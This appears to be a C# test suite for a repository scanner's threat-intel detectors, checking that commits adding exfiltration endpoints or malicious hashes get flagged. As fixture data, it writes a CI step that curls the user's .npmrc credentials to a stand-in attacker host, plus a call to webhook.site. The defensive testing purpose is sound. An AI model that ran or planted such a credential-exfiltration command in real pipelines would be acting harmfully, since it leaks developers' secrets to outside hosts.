using System.Text.Json;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.ThreatIntel;

/// <summary><c>pipewatch scan --store</c> over a real git repository: indicators in the lines commits add, through the registry's two intel detectors.</summary>
public sealed class IndicatorsInCommitsTests : IDisposable
{
    private const string BadSha256 = "0c9bf3b4f9e5a1d72e6c88d0a4f1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3";

    private readonly TempFolder _temp = new();
    private readonly TestRepository _repo = new(name: "payments-api");

    public void Dispose()
    {
        _repo.Dispose();
        _temp.Dispose();
    }

    private string Store => _temp.File("store.db");

    private async Task<List<JsonElement>> ScanAsync(int expectedExit)
    {
        var result = await new CliRunner(_temp.Path).RunAsync("scan", _repo.Path, "--store", Store, "--format", "json", "--fail-on", "low");
        Assert.True(expectedExit == result.ExitCode, result.Error);
        return [.. result.OutputLines.Select(l => JsonDocument.Parse(l).RootElement).Where(f => f.GetProperty("rule").GetString()!.StartsWith("threat-intel.", StringComparison.Ordinal))];
    }

    private void ImportFeed()
    {
        var feed = _temp.File("incident-iocs.csv");
        File.WriteAllText(feed, $"type,value,description,confidence\ndomain,exfil-collector.example,drop host of the incident,90\nsha256,{BadSha256},trojanized build tool,95\n");
        IntelStore.Import(Store, feed);
    }

    [Fact]
    public async Task A_workflow_step_calling_a_feed_host_and_a_script_pinning_a_bad_hash_are_reported_at_their_commit_file_and_line()
    {
        ImportFeed();
        _repo.Write("README.md", "# payments\n").Write(".github/workflows/ci.yml", "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n");
        _repo.Commit("init");
        _repo.Write(".github/workflows/ci.yml", "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n      - run: curl -s -d @$HOME/.npmrc https://u1.exfil-collector.example/in\n      - run: curl -s https://webhook.site/5f1e\n");
        _repo.Write("scripts/tool.sh", $"#!/bin/sh\ncurl -sLO https://downloads.example.org/tool.tar.gz\necho \"{BadSha256}  tool.tar.gz\" | sha256sum -c\n");
        // A document naming a built-in exfiltration service is not a call to it: the built-in list counts in CI definitions only.
        _repo.Write("docs/incident.md", "The worm posted the secrets to webhook.site.\n");
        var bad = _repo.Commit("ci: speed up", "Mallory <mallory@example.net>");

        var findings = await ScanAsync(expectedExit: 1);

        Assert.Equal(
            [
                ("threat-intel.c2-contact", "high", ".github/workflows/ci.yml", 7, "exfil-collector.example"),
                ("threat-intel.c2-contact", "low", ".github/workflows/ci.yml", 8, "webhook.site"),
                ("threat-intel.malicious-hash", "critical", "scripts/tool.sh", 3, BadSha256),
            ],
            findings.Select(f => (
                f.GetProperty("rule").GetString(),
                f.GetProperty("severity").GetString(),
                f.GetProperty("location").GetProperty("file").GetString(),
                f.GetProperty("location").GetProperty("line").GetInt32(),
                f.GetProperty("evidence").EnumerateArray().Single(e => e.GetProperty("name").GetString() == "indicator").GetProperty("value").GetString()))
            .OrderBy(f => f.Item1, StringComparer.Ordinal).ThenBy(f => f.Item4));
        Assert.All(findings, f => Assert.Equal(bad, f.GetProperty("location").GetProperty("commit").GetString()));
        var c2 = findings.First(f => f.GetProperty("location").GetProperty("line").GetInt32() == 7);
        Assert.Equal($"Commit {bad[..12]} adds a known C2/exfiltration endpoint: https://u1.exfil-collector.example/in", c2.GetProperty("title").GetString());
        Assert.Contains("matches the domain indicator 'exfil-collector.example' (feed 'incident-iocs.csv'", c2.GetProperty("explanation").GetString(), StringComparison.Ordinal);
        Assert.Equal("mallory@example.net", c2.GetProperty("entity").GetProperty("actor").GetString());
    }

    [Fact]
    public async Task Ordinary_commits_raise_no_intel_finding()
    {
        ImportFeed();
        _repo.Write(".github/workflows/ci.yml", "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11\n      - run: curl -sSf https://registry.npmjs.org/ && npm ci\n");
        _repo.Write("Dockerfile", "FROM node:22@sha256:4f4fb700ef54461cfa02571ae0db9a0dc1e0cdb5577484a6d75e68dc38e8acc1\nRUN wget -q https://nodejs.org/dist/v22.0.0/SHASUMS256.txt\n");
        _repo.Write("docs/links.md", "See https://collector.example and pastebin.com for notes; 10.0.0.1 is the cache.\n");
        _repo.Commit("init");

        Assert.Empty(await ScanAsync(expectedExit: 0));
    }
}
